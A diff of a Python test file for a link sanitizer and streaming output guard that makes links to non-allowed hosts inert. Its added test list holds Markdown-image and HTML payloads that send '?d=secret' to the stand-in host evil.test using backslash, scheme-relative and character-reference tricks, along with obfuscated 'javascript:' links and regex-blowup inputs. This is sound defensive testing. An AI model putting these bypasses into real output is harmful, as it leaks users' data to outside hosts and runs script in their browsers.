@@ -45,7 +45,7 @@ def run(guard: OutputGuard, text: str, size: int) -> tuple[str, list[str]]:
         ("see www.evil.test/x", f"see {LINK_REMOVED}"),
         ("<https://evil.test/x>", f"<{LINK_REMOVED}>"),
         ("[ref]: https://evil.test/x", f"[ref]: {LINK_REMOVED}"),
-        ("[a](javascript:alert(1))", f"[a]({LINK_REMOVED}))"),
+        ("[a](javascript:alert(1))", "a"),
         ("![x](data:image/png;base64,AAAA)", "x"),
         ("[docs](https://docs.example.org/guide)", "[docs](https://docs.example.org/guide)"),
         ("https://api.docs.example.org/v1 ok", "https://api.docs.example.org/v1 ok"),
@@ -61,6 +61,65 @@ def run(guard: OutputGuard, text: str, size: int) -> tuple[str, list[str]]:
 )
 def test_links_to_other_hosts_are_made_inert(text: str, expected: str) -> None:
     assert sanitize_links(text, HOSTS) == expected
+
+
+# Addresses a browser or a Markdown renderer reads as another host than a URL parser does, or
+# that the patterns above did not see as links at all. Each was shown live before.
+EXFILTRATION = [
+    # A backslash is a slash to a browser: the host is evil.test, not the allowed one.
+    "![x](https://evil.test\\@docs.example.org/?d=secret)",
+    # ... and an escape to Markdown: the host is evil.test, the backslash dropped.
+    "![x](https://docs.example.org\\@evil.test/?d=secret)",
+    "![x](\\\\evil.test/?d=secret)",
+    "![x](/\\evil.test/?d=secret)",
+    "![x](///evil.test/?d=secret)",
+    # Character references, decoded by the renderer.
+    "![x](https&#58;//evil.test/?d=secret)",
+    "![x](https&colon;//evil.test/?d=secret)",
+    "![x](https&#x3A;&#x2F;&#x2F;evil.test/?d=secret)",
+    "[x](javascript&#58;alert(1))",
+    "[x](java&#9;script:alert(1))",
+    # Scheme-relative addresses where the Markdown pattern does not match.
+    "![x](//evil.test/a(b)?d=secret)",
+    "![x](<//evil.test/a b?d=secret>)",
+    "![a [b] c](//evil.test/?d=secret)",
+    "![x][1]\n\n> [1]: //evil.test/?d=secret",
+    # Raw HTML.
+    '<img src="//evil.test/?d=secret">',
+    "<img src=//evil.test/?d=secret>",
+    '<img src="https&#58;&#47;&#47;evil.test/?d=secret">',
+    '<img srcset="/a.png 1x, &#47;/evil.test/?d=secret 2x">',
+    '<a href="java&#x09;script:alert(1)">x</a>',
+]
+
+
+@pytest.mark.parametrize("text", EXFILTRATION)
+def test_addresses_that_reach_another_host_once_rendered_are_made_inert(text: str) -> None:
+    out = sanitize_links(text, HOSTS)
+    assert "evil.test" not in out and "script:" not in out and "&#58;alert" not in out, out
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 7])
+@pytest.mark.parametrize("text", EXFILTRATION)
+def test_streamed_addresses_that_reach_another_host_never_show(text: str, size: int) -> None:
+    out, pieces = run(OutputGuard(pii_entities=(), hosts=HOSTS), f"See {text} now.", size)
+    assert "evil.test" not in out and "script:" not in out
+    assert not any("evil" in piece for piece in pieces)  # not even a part of the host
+    assert out.startswith("See ") and out.endswith(" now.")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x = 7 // 2, a//b.c and // a comment",
+        "&lt;img src=x onerror=alert(1)&gt; is shown as text",  # markup references stay
+        "a &amp;#58; b, Tom &amp; Jerry &copy; 2024",
+        '[ok](https://docs.example.org/a\\_b) and <img src="/logo.png">',
+        '<img src="https://docs.example.org/a.png">',
+    ],
+)
+def test_text_that_only_looks_like_those_addresses_is_kept(text: str) -> None:
+    assert sanitize_links(text, HOSTS) == text
 
 
 def test_a_url_glued_to_chinese_text_is_a_url() -> None:
@@ -212,10 +271,12 @@ def test_the_forced_cut_does_not_split_an_emoji(cluster: str, tail: str) -> None
 def test_adversarial_markup_completes() -> None:
     # Inputs that would make a backtracking pattern explode; no timing assert (house rule).
     for text in ("[" * 50_000, "[a](" * 20_000, "![" * 30_000 + "](", "http://" * 20_000,
-                 "]((" * 30_000, "www." * 30_000):  # fmt: skip
+                 "]((" * 30_000, "www." * 30_000, "[x](" + "(a)" * 30_000, "[x](" + "((" * 30_000,
+                 "//a." * 30_000, "\\\\" * 50_000, "&#58;" * 30_000, " src=" * 30_000,
+                 '<img srcset="' + "a 1x," * 30_000):  # fmt: skip
         guard = OutputGuard(hosts=HOSTS)
         out = guard.feed(text) + guard.flush()
-        assert "http://" not in out and "www.w" not in out
+        assert "http://" not in out and "www.w" not in out and "//a.//" not in out
 
 
 @pytest.mark.django_db
